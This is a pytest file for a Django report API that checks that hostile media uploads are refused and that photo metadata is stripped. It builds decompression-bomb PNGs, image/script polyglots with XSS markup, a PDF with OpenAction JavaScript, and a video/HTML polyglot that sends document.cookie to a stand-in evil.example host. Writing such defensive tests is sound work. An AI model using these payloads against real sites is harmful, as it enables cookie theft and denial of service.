"""Uploads built to hurt: bombs, polyglots, metadata floods, scripts, lying types.

Each is refused in the contract's shape (413 or 415) and leaves nothing behind: no report, no
attachment, no event, no file under MEDIA_ROOT (a temporary folder, tests/reporting/conftest.py).
"""

from __future__ import annotations

import io
import struct
import time
import zipfile
import zlib

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image

URL = "/api/v1/reports/"
LOCATION = '{"type":"Point","coordinates":[2.3522,48.8566]}'


def form(*uploads):
    return {
        "category": "fight",
        "description": "Two groups fighting outside the métro exit.",
        "location": LOCATION,
        "accuracy_m": 8,
        "media": list(uploads),
    }


@pytest.fixture
def send(as_user, resident):
    client = as_user(resident)

    def post(name: str, content: bytes, content_type: str = "image/jpeg"):
        upload = SimpleUploadedFile(name, content, content_type=content_type)
        return client.post(URL, form(upload), format="multipart")

    return post


def refused(response, status: int, code: str) -> None:
    assert response.status_code == status, response.content[:300]
    body = response.json()
    assert set(body) == {"error"}
    assert body["error"]["code"] == code
    assert body["error"]["fields"]["media"]


# --- hand-made files ------------------------------------------------------------------------------


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return (
        struct.pack(">I", len(data))
        + kind
        + data
        + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
    )


def png_declaring(width: int, height: int) -> bytes:
    """A valid-looking PNG of a few dozen bytes that declares `width`×`height` grey pixels."""
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", header)
        + png_chunk(b"IDAT", zlib.compress(b"\x00" * 64))
        + png_chunk(b"IEND", b"")
    )


def jpeg(size=(64, 48), **options) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, (30, 120, 200)).save(out, format="JPEG", **options)
    return out.getvalue()


def png(**options) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (64, 48), (30, 120, 200)).save(out, format="PNG", **options)
    return out.getvalue()


def jpeg_with_segments(count: int, marker: bytes = b"\xff\xe1") -> bytes:
    """A JPEG with `count` extra 64 KB APPn segments (EXIF-looking) after its SOI."""
    base = jpeg()
    payload = b"Exif\x00\x00" + b"GPS 48.8566N 2.3522E owner Camille " * 1800
    segment = marker + struct.pack(">H", len(payload[:65533]) + 2) + payload[:65533]
    return base[:2] + segment * count + base[2:]


# --- decompression bombs --------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("width", "height"),
    [(30_000, 30_000), (8_000, 7_000), (1, 2**31 - 1)],
    ids=["beyond-pillow-ceiling", "beyond-our-limit", "one-pixel-wide"],
)
def test_a_png_declaring_too_many_pixels_is_413(send, nothing_stored, width, height):
    started = time.perf_counter()
    response = send("bomb.png", png_declaring(width, height), "image/png")
    refused(response, 413, "media_too_large")
    assert time.perf_counter() - started < 2  # refused from the header, nothing inflated
    nothing_stored()


def test_a_png_with_a_compressed_text_bomb_is_refused(send, nothing_stored):
    # zTXt: 20 MB of text compressed to about 20 KB; Pillow refuses to inflate it.
    text = zlib.compress(b"A" * 20_000_000, 9)
    base = png()
    bomb = base[:33] + png_chunk(b"zTXt", b"Comment\x00\x00" + text) + base[33:]
    refused(send("text.png", bomb, "image/png"), 415, "unsupported_media")
    nothing_stored()


# --- polyglots and disguised files ----------------------------------------------------------------


@pytest.mark.parametrize(
    "payload",
    [
        b"<script>fetch('/api/v1/reports/').then(r => r.text()).then(alert)</script>",
        b"<!DOCTYPE html><html><body onload=alert(1)></body></html>",
        b"<iframe src=javascript:alert(1)>",
    ],
    ids=["script", "html-page", "iframe"],
)
def test_a_real_jpeg_carrying_markup_is_415(send, nothing_stored, payload):
    refused(send("photo.jpg", jpeg() + payload), 415, "unsupported_media")
    nothing_stored()


MP4_HEAD = b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom" + b"\x00\x00\x01\x08free"


def test_a_video_that_is_also_a_page_is_415(send, nothing_stored):
    # Videos are stored as sent (no re-encoding), so this refusal is their only guard.
    page = b"<!DOCTYPE html><script>document.location='https://evil.example/'+document.cookie"
    refused(
        send("clip.mp4", MP4_HEAD + page.ljust(256, b" "), "video/mp4"), 415, "unsupported_media"
    )
    nothing_stored()


def test_a_plain_video_is_kept_as_sent(send, stored_files):
    video = MP4_HEAD + bytes(range(256)) * 4
    response = send("clip.mp4", video, "video/mp4")
    assert response.status_code == 201, response.json()
    (stored,) = stored_files()
    assert stored.read_bytes() == video


def test_markup_hidden_in_a_jpeg_comment_is_415(send, nothing_stored):
    comment = b"<script>alert(document.cookie)</script>"
    base = jpeg()
    segment = b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment
    refused(send("photo.jpg", base[:2] + segment + base[2:]), 415, "unsupported_media")
    nothing_stored()


def test_a_gif_javascript_polyglot_is_415(send, nothing_stored):
    polyglot = b"GIF89a/*\x01\x00\x01\x00\x00\x00\x00*/=alert(document.domain);//" + b"\x00" * 64
    refused(send("cat.jpg", polyglot, "image/gif"), 415, "unsupported_media")
    nothing_stored()


def zip_file() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("payload.html", "<script>alert(1)</script>")
    return out.getvalue()


@pytest.mark.parametrize(
    "content",
    [
        zip_file(),
        b"%PDF-1.7\n1 0 obj\n<< /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>\n" * 5,
        b"<!DOCTYPE html><html><script>alert(1)</script></html>",
        b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + b"<html><script>alert(1)</script></html>",
    ],
    ids=["zip", "pdf", "html", "jpeg-header-then-html"],
)
def test_a_file_named_jpg_that_is_something_else_is_415(send, nothing_stored, content):
    refused(send("holiday.jpg", content), 415, "unsupported_media")
    nothing_stored()


def test_an_svg_with_a_script_is_415(send, nothing_stored):
    svg = (
        b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
        b"<script>alert(document.cookie)</script><rect width='10' height='10'/></svg>"
    )
    refused(send("drawing.svg", svg, "image/svg+xml"), 415, "unsupported_media")
    refused(send("drawing.jpg", svg, "image/jpeg"), 415, "unsupported_media")
    nothing_stored()


# --- lying content types --------------------------------------------------------------------------


@pytest.mark.parametrize(
    "claimed", ["text/html", "application/javascript", "application/x-msdownload"]
)
def test_a_real_photo_declared_as_something_dangerous_is_415(send, nothing_stored, claimed):
    refused(send("photo.jpg", jpeg(), claimed), 415, "unsupported_media")
    nothing_stored()


def test_a_png_declared_as_jpeg_is_stored_as_the_png_it_is(send, stored_files):
    response = send("photo.jpg", png(), "image/jpeg")
    assert response.status_code == 201, response.json()
    (media,) = response.json()["media"]
    assert media["content_type"] == "image/png"
    (stored,) = stored_files()
    assert stored.suffix == ".png"
    assert Image.open(stored).format == "PNG"


# --- metadata floods ------------------------------------------------------------------------------


def test_megabytes_of_exif_segments_are_stripped(send, stored_files):
    flooded = jpeg_with_segments(60)  # ~3.9 MB of APP1 segments around 3 KB of pixels
    assert len(flooded) > 3_500_000
    started = time.perf_counter()
    response = send("flood.jpg", flooded)
    assert response.status_code == 201, response.json()
    assert time.perf_counter() - started < 5
    (stored,) = stored_files()
    raw = stored.read_bytes()
    assert len(raw) < 20_000
    assert b"GPS 48.8566N" not in raw
    assert dict(Image.open(stored).getexif()) == {}


def test_a_png_with_a_huge_exif_chunk_is_stripped(send, stored_files):
    exif = Image.Exif()
    exif[0x010F] = "PhoneMaker"
    exif[0x010E] = "owner Camille, 1 place de l'Hôtel de Ville " * 80_000  # ~3.5 MB
    content = png(exif=exif.tobytes())
    assert len(content) > 3_000_000
    response = send("flood.png", content, "image/png")
    assert response.status_code == 201, response.json()
    (stored,) = stored_files()
    raw = stored.read_bytes()
    assert b"owner Camille" not in raw
    assert b"PhoneMaker" not in raw
    assert dict(Image.open(stored).getexif()) == {}


def test_only_orientation_survives_a_crowded_exif(send, stored_files):
    exif = Image.Exif()
    exif[0x0112] = 6
    exif[0x010F] = "PhoneMaker"
    exif[0x8825] = {1: "N", 2: (48.0, 51.0, 23.76), 3: "E", 4: (2.0, 21.0, 7.92)}
    exif[0x9286] = "user comment " * 1000
    response = send("photo.jpg", jpeg(exif=exif))
    assert response.status_code == 201, response.json()
    (stored,) = stored_files()
    assert dict(Image.open(stored).getexif()) == {0x0112: 6}


def test_one_attack_among_good_files_stores_nothing(as_user, resident, nothing_stored):
    uploads = [
        SimpleUploadedFile("good.jpg", jpeg(), content_type="image/jpeg"),
        SimpleUploadedFile("bomb.png", png_declaring(30_000, 30_000), content_type="image/png"),
    ]
    response = as_user(resident).post(URL, form(*uploads), format="multipart")
    refused(response, 413, "media_too_large")
    nothing_stored()
